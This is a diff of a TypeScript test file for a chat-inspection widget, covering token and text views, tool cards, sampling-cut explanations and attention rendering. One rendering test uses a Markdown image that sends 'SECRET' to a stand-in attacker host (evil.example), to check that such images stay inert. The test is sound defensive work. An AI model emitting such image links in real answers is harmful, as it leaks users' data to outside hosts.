@@ -37,7 +37,7 @@ describe("render from the turns trait", () => {
     mount({ turns: [FIX.answer, FIX.tool, FIX.redacted, FIX.blocked], title: "Capitals" });
     const total = [FIX.answer, FIX.tool, FIX.redacted].reduce((n, f) => n + tokensOf(f).length, 0);
     expect(qa("token").length).toBe(total);
-    expect(qa("tool-card").length).toBe(1);
+    expect(qa("tool-card").length).toBe(2); // one in the text view, one in the tokens view
     expect(q("title").textContent).toBe("Capitals");
     expect(host.querySelector(".cf-root")!.getAttribute("data-status")).toBe("idle");
     expect(host.querySelector(".cf-root")!.getAttribute("data-last-seq")).toBe("2");
@@ -47,15 +47,17 @@ describe("render from the turns trait", () => {
     expect(redactedTurn.querySelector(".cf-span-repl")!.textContent).toBe("[EMAIL]");
   });
 
-  it("the tool card sits between the tokens around the pause", () => {
+  it("the tool card sits between the tokens around the pause, in both views", () => {
     mount({ turns: [FIX.tool] });
-    const answer = host.querySelector(".cf-answer")!;
-    const card = q("tool-card");
-    expect(card.parentElement).toBe(answer);
-    expect(answer.firstElementChild).toBe(card); // the call came before token 0
-    expect(card.textContent).toContain("calculator");
-    expect(card.textContent).toContain('"expression": ".17 * 23"');
-    expect(card.textContent).toContain("3.91");
+    const [inTokens, inText] = [".cf-answer-tokens", ".cf-answer-text"].map((sel) => host.querySelector(sel)!);
+    for (const box of [inTokens, inText]) {
+      const card = box.querySelector('[data-testid="tool-card"]')!;
+      expect(box.firstElementChild).toBe(card); // the call came before token 0
+      expect(card.textContent).toContain("calculator");
+      expect(card.textContent).toContain('"expression": ".17 * 23"');
+      expect(card.textContent).toContain("3.91");
+    }
+    expect(inText.querySelector(".cf-md p")!.textContent).toBe(completedOf(FIX.tool).text);
   });
 
   it("context tab draws the bar from the last round and the exact prompt", () => {
@@ -244,5 +246,134 @@ describe("fake model: live stream, controls and messages", () => {
     cleanup = null;
     expect(model.listeners("msg:custom")).toBe(0);
     expect(host.querySelector(".cf-root")).toBeNull();
+  });
+});
+
+describe("answers: rendered text, or tokens", () => {
+  it("shows the answer as rendered Markdown by default, the chips one click away", () => {
+    const answer = "Compare:\n\n```python\nif a < b:\n    print('<b>')\n```\n\n![x](https://evil.example/?q=SECRET)";
+    const events = FIX.answer.events.map((e): ChatEvent => (e.type === "token" && e.index === 0 ? { ...e, text: answer } : e.type === "token" ? { ...e, text: "" } : e));
+    mount({ turns: [{ ...FIX.answer, events }] });
+    const stream = q("conversation");
+    expect(stream.getAttribute("data-view")).toBe("text");
+    const text = q("answer-text");
+    expect(text.querySelector("pre code")!.textContent).toBe("if a < b:\n    print('<b>')\n");
+    expect(text.querySelectorAll("img, a, [src], [href]").length).toBe(0);
+    expect(text.textContent).toContain("[image: x — https://evil.example/?q=SECRET]");
+    expect(text.textContent).not.toContain("␣");
+    (q("view-tokens") as HTMLButtonElement).click();
+    expect(stream.getAttribute("data-view")).toBe("tokens");
+    expect(q("view-tokens").getAttribute("aria-pressed")).toBe("true");
+  });
+
+  it("a stopped turn says [stopped], as the magic and the CLI do", () => {
+    const fx = FIX.answer;
+    const done = completedOf(fx);
+    const cancelled = { type: "cancelled", sequence_number: done.sequence_number, turn_id: fx.turn_id, timestamp: done.timestamp, text: done.text, usage: {}, timings: {} } as ChatEvent;
+    mount({ turns: [{ ...fx, events: [...fx.events.slice(0, -1), cancelled] }] });
+    expect(q("stopped").textContent).toBe("[stopped]");
+    expect(host.querySelector(".cf-turn-foot")!.textContent).toContain("stopped");
+    expect(host.textContent).not.toContain("cancelled");
+  });
+});
+
+describe("the panel keeps its place", () => {
+  it("tab, answer view, selected token, open popover and open tool card survive a turn's end", () => {
+    const live = FIX.answer;
+    const model = mount({ turns: [FIX.tool], live: { turn_id: live.turn_id, prewarm: null, fork_of: "" }, status: "generating" });
+    const root = host.querySelector(".cf-root");
+    model.message({ type: "events", turn_id: live.turn_id, events: live.events.slice(0, -3), pieces: live.pieces });
+    (q("tab-safety") as HTMLButtonElement).click();
+    (q("view-tokens") as HTMLButtonElement).click();
+    const chip = host.querySelector(`[data-testid="token"][data-turn="${live.turn_id}"][data-index="1"]`) as HTMLElement;
+    chip.dispatchEvent(new MouseEvent("click", { bubbles: true }));
+    expect(q("popover").hidden).toBe(false);
+    expect(host.querySelectorAll('[data-testid="fork"]').length).toBe(0); // still generating: no fork yet
+    const card = host.querySelector(".cf-answer-tokens [data-testid='tool-card']") as HTMLDetailsElement;
+    card.setAttribute("open", "");
+    // the turn ends: its last events come, then the kernel moves it into `turns`
+    model.message({ type: "events", turn_id: live.turn_id, events: live.events.slice(-3), pieces: live.pieces });
+    model.traits.live = null;
+    model.set("turns", [FIX.tool, live]);
+    model.set("status", "idle");
+    expect(host.querySelector(".cf-root")).toBe(root); // nothing rebuilt
+    expect(q("tab-safety").getAttribute("aria-selected")).toBe("true");
+    expect(q("conversation").getAttribute("data-view")).toBe("tokens");
+    expect(q("popover").hidden).toBe(false);
+    expect(q("popover").textContent).toContain(live.pieces[String(tokensOf(live)[1].token_id)][0]);
+    expect(host.querySelectorAll('[data-testid="fork"]').length).toBeGreaterThan(0); // now it can fork
+    expect(host.querySelector(".cf-tok-selected")).toBe(chip);
+    expect(card.isConnected && card.hasAttribute("open")).toBe(true);
+    // (the scroll position is checked in the browser: tests/test_e2e_panel.py)
+  });
+
+  it("a new session clears the inspector", () => {
+    const model = mount({ turns: [FIX.tool] });
+    for (const tab of ["timeline", "safety", "context"]) (q(`tab-${tab}`) as HTMLButtonElement).click();
+    expect(q("prompt-tokens").querySelectorAll(".cf-ptok").length).toBe(380);
+    model.set("turns", []);
+    vi.useFakeTimers();
+    for (const tab of ["timeline", "safety", "context"]) {
+      (q(`tab-${tab}`) as HTMLButtonElement).click();
+      const panel = host.querySelector(".cf-panel")!;
+      expect(panel.textContent).not.toContain("calculator");
+      expect(panel.textContent).not.toContain("17 * 23");
+    }
+    expect(q("prompt-tokens").childElementCount).toBe(0);
+  });
+});
+
+describe("token popover", () => {
+  it("says which setting cut each alternative, and labels both probabilities", () => {
+    mount({ turns: [FIX.tool] });
+    (q("view-tokens") as HTMLButtonElement).click();
+    host.querySelector('[data-testid="token"][data-index="2"]')!.dispatchEvent(new MouseEvent("click", { bubbles: true }));
+    const pop = q("popover");
+    expect([...pop.querySelectorAll("th")].map((t) => t.textContent)).toEqual(["alternative", "probability", "after sampling", ""]);
+    const reasons = [...pop.querySelectorAll('[data-testid="cut-reason"]')].map((r) => r.textContent);
+    // token 2 of tool.json: top-p 0.9 kept only the first; the second was the model's favourite (53 %) until the
+    // repetition penalty lowered it
+    expect(reasons).toEqual(["cut by top-p 0.9 (the repetition penalty lowered it)", "cut by top-p 0.9 (the repetition penalty lowered it)", "cut by top-p 0.9", "cut by top-p 0.9"]);
+    expect(pop.textContent).toContain("sampled with temperature 0.2, top-k 0, top-p 0.9, min-p 0, repetition-penalty 1.1");
+    const bytes = [...pop.querySelectorAll("dt")].find((d) => d.textContent === "bytes")!;
+    expect(bytes.className).toContain("cf-nowrap");
+  });
+
+  it("explains top-k, min-p and greedy cuts", async () => {
+    const { cutReason } = await import("../src/views/token_details");
+    const alts = [
+      { token_id: 1, text: "a", logprob: Math.log(0.6), sampling_prob: 1 },
+      { token_id: 2, text: "b", logprob: Math.log(0.3), sampling_prob: 0 },
+      { token_id: 3, text: "c", logprob: Math.log(0.01), sampling_prob: 0 },
+    ];
+    expect(cutReason(alts[1], 1, alts, { temperature: 1, top_k: 1 })).toBe("cut by top-k 1");
+    expect(cutReason(alts[2], 2, alts, { temperature: 1, min_p: 0.05 })).toBe("below min-p 0.05");
+    expect(cutReason(alts[1], 1, alts, { temperature: 0 })).toBe("greedy (temperature 0): only the top token");
+    expect(cutReason(alts[0], 0, alts, { temperature: 1 })).toBe("");
+  });
+});
+
+describe("attention", () => {
+  it("is drawn without a click for a short finished turn, with token labels on both axes and a colour scale", () => {
+    const model = mount({ turns: [FIX.answer] });
+    (q("tab-attention") as HTMLButtonElement).click();
+    const req = last(model).content;
+    expect(req).toMatchObject({ type: "attention", turn_id: FIX.answer.turn_id, mode: "tokens" });
+    const n = 50; // 38 prompt + 12 generated
+    const bits = new Uint16Array(n * n).fill(0x3c00);
+    model.message({ type: "attention", request_id: req.request_id, turn_id: FIX.answer.turn_id, layer: 31, head: -1, mode: "tokens", shape: [n, n], dtype: "float16", tokens: n, prompt_tokens: 38, pool: 1, rows_range: [0, n], cols_range: [0, n], segments: [] }, [new DataView(bits.buffer)]);
+    const rows = [...q("attention-rows").children].map((c) => c.textContent);
+    const cols = [...q("attention-top").children].map((c) => c.textContent);
+    expect(rows.length).toBe(25); // 50 > 48 labels: every second token
+    expect(cols).toEqual(rows);
+    expect(rows[0]).toBe("<|im_start|>");
+    expect(rows[19]).toBe(FIX.answer.pieces[String(tokensOf(FIX.answer)[0].token_id)][0]); // position 38
+    expect(q("attention-scale").hidden).toBe(false);
+    expect(q("attention-scale").textContent).toContain("≥ 1.00");
+    // a second visit asks nothing more
+    const sent = model.sent.length;
+    (q("tab-timeline") as HTMLButtonElement).click();
+    (q("tab-attention") as HTMLButtonElement).click();
+    expect(model.sent.length).toBe(sent);
   });
 });
